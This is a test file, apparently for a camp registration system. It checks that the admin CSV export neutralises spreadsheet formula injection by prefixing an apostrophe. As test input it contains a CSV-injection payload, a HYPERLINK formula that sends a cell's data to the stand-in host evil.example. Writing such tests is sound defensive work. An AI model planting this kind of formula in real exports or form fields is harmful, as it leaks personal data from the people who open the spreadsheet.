import { SELF } from "cloudflare:test";
import Papa from "papaparse";
import { expect, test } from "vitest";
import { createCamper, createCampSession, createProgram, createRegistration, createUser, sessionCookieFor } from "../support/factories";

test("a camper named like a spreadsheet formula is exported as text the spreadsheet will not run", async () => {
  const admin = await createUser({ isAdmin: true });
  const program = await createProgram({ name: "Formula Program" });
  const session = await createCampSession({ programId: program.id, name: "Formula Day" });
  const parent = await createUser({ email: "formula.parent@example.com", firstName: "@Casey", lastName: "Formula" });
  const camper = await createCamper({ parentId: parent.id, firstName: '=HYPERLINK("http://evil.example/?d="&E2,"Open")', lastName: "Formulason" });
  await createRegistration({ camperId: camper.id, sessionId: session.id, parentId: parent.id });

  const response = await SELF.fetch("http://localhost/admin/registrations.csv?search=formulason", { headers: { Cookie: await sessionCookieFor(admin.id) } });
  expect(response.status).toBe(200);
  const [row] = Papa.parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true }).data;
  expect(row.Camper).toBe(`'=HYPERLINK("http://evil.example/?d="&E2,"Open") Formulason`);
  expect(row.Parent).toBe("'@Casey Formula");
  expect(row.Program).toBe("Formula Program");
});
